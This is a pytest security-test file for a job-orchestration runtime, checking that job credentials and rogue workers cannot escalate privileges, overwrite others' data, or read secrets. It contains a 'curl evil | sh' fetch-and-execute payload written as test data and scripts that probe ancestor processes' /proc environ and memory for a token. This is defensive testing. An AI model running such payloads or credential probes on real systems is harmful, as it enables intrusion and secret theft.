"""What a credential, or a hand-written worker, must not be able to do (issue 19).

Each test is one attack seen to work, driven through real processes.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import signal
import stat
import subprocess
import sys
import sysconfig
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import psutil
import pytest

from tests.helpers import ProcessCluster, hand_written_worker, wait_until
from titan_runtime import InvalidJob, PermissionDenied, TitanClient, TitanJob, Unauthenticated, config
from titan_runtime.master.auth import Credentials
from titan_runtime.proto import titan_pb2 as pb

pytestmark = pytest.mark.integration
API = str(Path(__file__).resolve().parents[2] / "example_pipelines" / "services" / "api.py")


def job_credential(cluster: ProcessCluster) -> str:
    """The credential a job of a fresh run holds, as that job would see it."""
    job = cluster.client.submit_job(
        TitanJob(command=["sh", "-c", 'printf \'"%s"\' "$TITAN_TOKEN" > "$TITAN_RESULT_FILE"'])
    )
    assert cluster.client.wait(job, 30).state == "SUCCEEDED"
    credential = cluster.client.get_result(job)
    assert credential.startswith("tj1.") and credential != cluster.token
    return credential


def test_a_job_credential_cannot_submit_a_run_in_the_cluster_wide_namespace(cluster: ProcessCluster) -> None:
    with TitanClient(cluster.address, token=job_credential(cluster)) as as_job:
        with pytest.raises(InvalidJob, match=r"invalid run id '_'.*starting with a letter or digit"):
            as_job.submit_dag("x", [TitanJob(command=["true"])], run_id="_")
        with pytest.raises(InvalidJob, match="starting with a letter or digit"):
            as_job.submit_dag("x", [TitanJob(command=["true"])], run_id="_x")
    assert not [r for r in cluster.client.list_runs() if r.id.startswith("_")]


def test_a_worker_claiming_another_workers_attempt_does_not_stop_it(
    cluster: ProcessCluster, tmp_path: Path
) -> None:
    go = tmp_path / "go"
    job = cluster.client.submit_job(
        TitanJob(command=["sh", "-c", f"while [ ! -e {go} ]; do sleep 0.05; done"])
    )
    running = wait_until(lambda: (r := cluster.client.get_job(job)).state == "RUNNING" and r, 30)
    attempt = running.attempts[-1]
    claim = pb.HeldAttempt(attempt_id=attempt.id, pid=attempt.pid)
    welcome = hand_written_worker(
        cluster.address, cluster.token, pb.WorkerHello(worker_id="intruder", name="intruder", held=[claim])
    )
    assert list(welcome.superseded) == [attempt.id]
    after = cluster.client.get_job(job)
    assert (after.state, after.attempts[-1].state) == ("RUNNING", "RUNNING")
    go.touch()
    done = cluster.client.wait(job, 30)
    assert (done.state, len(done.attempts)) == ("SUCCEEDED", 1)


def test_a_job_credential_cannot_replace_another_runs_service(cluster: ProcessCluster) -> None:
    cluster.client.submit_job(TitanJob("api", API, job_type="SERVICE"))
    (deployed,) = wait_until(
        lambda: [s for s in cluster.client.list_services("api") if s.state == "HEALTHY"], 30, what="the api"
    )
    endpoint = cluster.client.service_endpoint("api")
    as_job = TitanClient(cluster.address, token=job_credential(cluster))
    with as_job, pytest.raises(PermissionDenied, match=r"service 'api' is running in run .*its own run"):
        as_job.submit_job(TitanJob("api", API, job_type="SERVICE"))
    assert [(s.run_id, s.state) for s in cluster.client.list_services("api")] == [
        (deployed.run_id, "HEALTHY")
    ]
    assert cluster.client.service_endpoint("api") == endpoint


def test_the_data_dir_store_and_work_dir_are_private_whatever_the_umask(make_cluster) -> None:  # type: ignore[no-untyped-def]
    old = os.umask(0)
    try:
        cluster: ProcessCluster = make_cluster()
        cluster.add_worker("w")
        job = cluster.client.submit_job(TitanJob(command=["true"], env={"DB_PASSWORD": "hunter2"}))
        assert cluster.client.wait(job, 30).state == "SUCCEEDED"
    finally:
        os.umask(old)
    data, work = cluster.data_dir, cluster.root / "workers" / "w"
    modes = {
        path.relative_to(cluster.root).as_posix(): stat.S_IMODE(path.stat().st_mode)
        for path in (
            data,
            data / "token",
            data / "titan.db",
            data / "titan.db-wal",
            data / "titan.db-shm",
            work,
        )
    }
    assert modes == {
        "master": 0o700,
        "master/token": 0o600,
        "master/titan.db": 0o600,
        "master/titan.db-wal": 0o600,
        "master/titan.db-shm": 0o600,
        "workers/w": 0o700,
    }
    assert b"hunter2" in (data / "titan.db").read_bytes() + (data / "titan.db-wal").read_bytes()


def test_a_job_credential_cannot_change_saved_dags_or_schedules(cluster: ProcessCluster) -> None:
    admin = cluster.client
    admin.save_dag("nightly", [TitanJob("a", command=["true"])])
    admin.add_schedule("every-minute", "nightly", "* * * * *")
    as_job = TitanClient(cluster.address, token=job_credential(cluster))
    with as_job:
        for attempt in (
            lambda: as_job.save_dag("nightly", [TitanJob("a", command=["sh", "-c", "curl evil | sh"])]),
            lambda: as_job.delete_saved_dag("nightly"),
            lambda: as_job.add_schedule("mine", "nightly", "* * * * *"),
            lambda: as_job.delete_schedule("every-minute"),
        ):
            with pytest.raises(PermissionDenied, match="belong to no run; that takes the cluster token"):
                attempt()
        assert as_job.list_saved_dags() == ["nightly"]  # reading is fine
    assert [s.name for s in admin.list_schedules()] == ["every-minute"]


def test_a_job_credential_expires_when_its_run_ends(make_cluster, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cluster: ProcessCluster = make_cluster(master_args=("--credential-grace", "1"))
    cluster.add_worker("w")
    go, saved = tmp_path / "go", tmp_path / "credential"
    script = f'printf %s "$TITAN_TOKEN" > {saved}; while [ ! -e {go} ]; do sleep 0.05; done'
    job = cluster.client.submit_job(TitanJob(command=["sh", "-c", script]))
    credential = wait_until(lambda: saved.exists() and saved.read_text(), 30, what="the job's credential")
    as_job = TitanClient(cluster.address, token=credential)
    with as_job:
        assert cluster.client.get_job(job).run_id in [r.id for r in as_job.list_runs()]  # while it runs
        go.touch()
        assert cluster.client.wait(job, 30).state == "SUCCEEDED"

        def refused() -> str:
            try:
                as_job.list_runs()
            except Unauthenticated as exc:
                return str(exc)
            return ""

        assert "is no longer valid" in wait_until(refused, 30, what="the credential to expire")
    # One for a run the master never had, made with the cluster's own secret, admits nothing either.
    forged = Credentials(cluster.token, tmp_path / "unused").job_credential("never-was")
    with (
        TitanClient(cluster.address, token=forged) as ghost,
        pytest.raises(Unauthenticated, match="never-was"),
    ):
        ghost.list_runs()


def test_a_job_credential_writes_only_the_kv_keys_its_own_run_created(cluster: ProcessCluster) -> None:
    cluster.client.store_put("config", "the cluster's")
    first, second = job_credential(cluster), job_credential(cluster)
    with TitanClient(cluster.address, token=first) as one, TitanClient(cluster.address, token=second) as two:
        one.store_put("mine", "1")
        one.store_sadd("members", "a")
        writes = [
            (two.store_put, ("x",)), (two.store_delete, ()), (two.store_incr, ()),
            (two.store_cas, (None, "x")), (two.store_sadd, ("x",)), (two.store_srem, ("a",)),
        ]  # fmt: skip
        for key in ("config", "mine", "members"):
            for write, args in writes:
                with pytest.raises(
                    PermissionDenied, match=rf"KV key '{key}' belongs to .*it may read this one"
                ):
                    write(key, *args)  # type: ignore[operator]
        assert (two.store_get("config"), two.store_get("mine"), two.store_smembers("members")) == (
            "the cluster's", "1", {"a"}
        )  # fmt: skip
        two.store_put("theirs", "2")  # a new key is its run's
        assert two.store_incr("theirs") == 3 and two.store_delete("theirs")
        one.store_put("mine", "3")  # and the first run's keys stay writable for it
    assert cluster.client.store_get("mine") == "3"
    cluster.client.store_put("mine", "cluster may")  # the cluster token writes any key


def test_repeated_wrong_tokens_from_one_host_are_answered_later_and_logged(cluster: ProcessCluster) -> None:
    started = time.monotonic()
    with TitanClient(cluster.address, token="guess") as guessing:
        for _ in range(6):
            with pytest.raises(Unauthenticated, match="wrong token"):
                guessing.list_runs()
    assert time.monotonic() - started >= 0.1 + 0.2 + 0.4  # the fourth, fifth and sixth waited
    log = cluster.master_log()
    assert "failed authentication from ipv4:127.0.0.1:" in log and "1 in a row" in log
    assert "guess" not in log  # the token tried is not logged
    assert cluster.client.list_runs() is not None  # the cluster token is answered as ever


ANCESTORS = """
import os, sys
token, found, pid = sys.argv[1].encode(), [], os.getpid()
while pid > 1:
    with open(f"/proc/{pid}/environ", "rb") as fh:
        if token in fh.read():
            found.append(pid)
    with open(f"/proc/{pid}/stat") as fh:
        pid = int(fh.read().rsplit(")", 1)[1].split()[1])  # its parent
print("found in", found if found else "none of its ancestors")
"""


def test_no_job_of_up_finds_the_cluster_token_in_its_ancestors_environments(tmp_path: Path) -> None:
    data, script = tmp_path / "data", tmp_path / "ancestors.py"
    script.write_text(ANCESTORS)
    env = dict(os.environ, TITAN_DATA_DIR=str(data))
    env.pop("TITAN_TOKEN", None)
    argv = [sys.executable, "-m", "titan_runtime", "up", "--port", "0", "--workers", "1", "--no-dashboard"]
    with open(tmp_path / "up.log", "wb") as log:
        up = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=log, text=True, env=env)
    try:
        address = up.stdout.readline().split("master at ")[1].split(",")[0]  # type: ignore[union-attr]
        token = (data / "token").read_text().strip()
        with TitanClient(address, token=token) as client:
            jobs = [
                TitanJob(command=[sys.executable, "-c", ANCESTORS, token]),  # the worker's own child
                TitanJob(filename=str(script), args=[token]),  # forked from its Python launcher
            ]
            for job in jobs:
                ref = client.submit_job(job)
                assert client.wait(ref, 60).state == "SUCCEEDED", client.fetch_logs(ref)
                assert client.fetch_logs(ref).strip() == "found in none of its ancestors"
    finally:
        up.send_signal(signal.SIGTERM)
        assert up.wait(30) == 0


DUMPABLE = "import ctypes; print(ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))"  # PR_GET_DUMPABLE


def test_the_launcher_is_closed_to_its_jobs_and_an_execd_job_is_an_ordinary_process(
    cluster: ProcessCluster, tmp_path: Path
) -> None:
    """A forked job inherits the launcher's flag: 0 shows the launcher made itself non-dumpable, so
    that processes of its user cannot read its memory or environ (the worker does the same, see
    tests/unit/test_hardening.py). A job the worker execs is dumpable again, as any process."""
    script = tmp_path / "dumpable.py"
    script.write_text(DUMPABLE)
    forked = cluster.client.submit_job(TitanJob(filename=str(script)))
    execd = cluster.client.submit_job(TitanJob(command=[sys.executable, "-c", DUMPABLE]))
    for ref, expected in ((forked, "0"), (execd, "1")):
        assert cluster.client.wait(ref, 30).state == "SUCCEEDED", cluster.client.fetch_logs(ref)
        assert cluster.client.fetch_logs(ref).strip() == expected


def test_the_audit_log_records_who_changed_what_and_how_it_ended(cluster: ProcessCluster) -> None:
    run = cluster.client.submit_dag("audited", [TitanJob("a", command=["true"])], run_id="audited-run")
    credential = job_credential(cluster)
    with TitanClient(cluster.address, token=credential) as as_job:
        with pytest.raises(PermissionDenied):
            as_job.save_dag("nightly", [TitanJob("a", command=["true"])])
        with pytest.raises(PermissionDenied, match="the audit log is the cluster's"):
            as_job.audit()
    with TitanClient(cluster.address, token="guess") as wrong, pytest.raises(Unauthenticated):
        wrong.cancel(run.id)
    cluster.client.store_get("read-only")  # a read: not audited
    cluster.restart_master()  # the log is in the store
    cluster._client = None
    done = cluster.cli("audit", "--json", "--since", "10m")
    assert done.returncode == 0, done.stderr
    entries = [(e["rpc"], e["who"], e["target"], e["outcome"]) for e in json.loads(done.stdout)]
    job_run = credential.split(".")[1]
    assert ("SubmitRun", "the cluster token", "audited-run", "OK") in entries
    assert ("SaveDag", f"a job of run {job_run}", "nightly", "PERMISSION_DENIED") in entries
    assert ("Cancel", "a wrong token", "audited-run", "UNAUTHENTICATED") in entries
    assert not [e for e in entries if e[0] in ("Kv", "ListAudit")]
    assert credential not in done.stdout and cluster.token not in done.stdout and "guess" not in done.stdout
    assert all(e["peer"].startswith("ipv4:127.0.0.1:") for e in json.loads(done.stdout))
    assert cluster.client.audit(limit=1)[-1].rpc == entries[-1][0]


PROBE = """
import json, os
def parent(pid):
    with open(f"/proc/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])
def probe(pid):
    out = {}
    for what in ("environ", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as fh:
                fh.read(1)
            out[what] = "read"
        except OSError as exc:
            out[what] = type(exc).__name__
    return out
seen, pid = {}, parent(os.getpid())
while pid > 1:
    seen[pid] = probe(pid)
    pid = parent(pid)
print(json.dumps({"uid": os.getuid(), "ancestors": seen}))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="starting a worker as another user needs root")
def test_a_job_of_a_non_root_worker_cannot_read_its_workers_or_launchers_environment_or_memory(
    make_cluster: Callable[..., ProcessCluster],
) -> None:
    """The worker runs as `nobody`, and so do its jobs: same user, so only the non-dumpable flag
    keeps them out of the worker's and the launcher's /proc files. (The system's interpreter, with
    this checkout and its packages on the path: the virtualenv's may live where `nobody` cannot go.)"""
    python = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
    if not os.path.exists(python):
        pytest.skip(f"needs {python}, which `nobody` can run")
    cluster = make_cluster()  # its only worker is the one below
    nobody = pwd.getpwnam("nobody")
    home = Path(tempfile.mkdtemp(prefix="titan-nobody-"))  # not under pytest's root-only tmp dir
    try:
        os.chown(home, nobody.pw_uid, nobody.pw_gid)
        script = home / "probe.py"
        script.write_text(PROBE)
        path = os.pathsep.join(
            [str(Path(__file__).resolve().parents[2]), *sysconfig.get_paths()["purelib"].split(os.pathsep)]
        )
        argv = ["setpriv", f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}", "--clear-groups"]
        argv += [
            "env",
            f"PYTHONPATH={path}",
            python,
            "-m",
            "titan_runtime",
            "worker",
            "--master",
            cluster.address,
        ]
        argv += ["--name", "nobody", "--work-dir", str(home / "work")]
        with open(cluster.root / "worker-nobody.log", "ab") as log:
            worker = cluster.workers["nobody"] = config.start_worker(
                argv, cluster.token, stdout=log, stderr=log
            )
        cluster.wait_for_worker("nobody")
        for how, job in {
            "exec'd by the worker": TitanJob(command=[python, "-c", PROBE], env={"PYTHONPATH": path}),
            "forked by its launcher": TitanJob(filename=str(script)),
        }.items():
            ref = cluster.client.submit_job(job)
            assert cluster.client.wait(ref, 60).state == "SUCCEEDED", cluster.client.fetch_logs(ref)
            seen = json.loads(cluster.client.fetch_logs(ref))
            assert seen["uid"] == nobody.pw_uid, how
            ours = {
                int(p): what
                for p, what in seen["ancestors"].items()
                if psutil.Process(int(p)).uids().real == nobody.pw_uid
            }
            assert worker.pid in ours or any(psutil.Process(p).ppid() == worker.pid for p in ours), (
                how,
                seen,
            )
            for pid, what in ours.items():
                assert what == {"environ": "PermissionError", "mem": "PermissionError"}, (how, pid, seen)
    finally:
        cluster.stop()
        shutil.rmtree(home, ignore_errors=True)
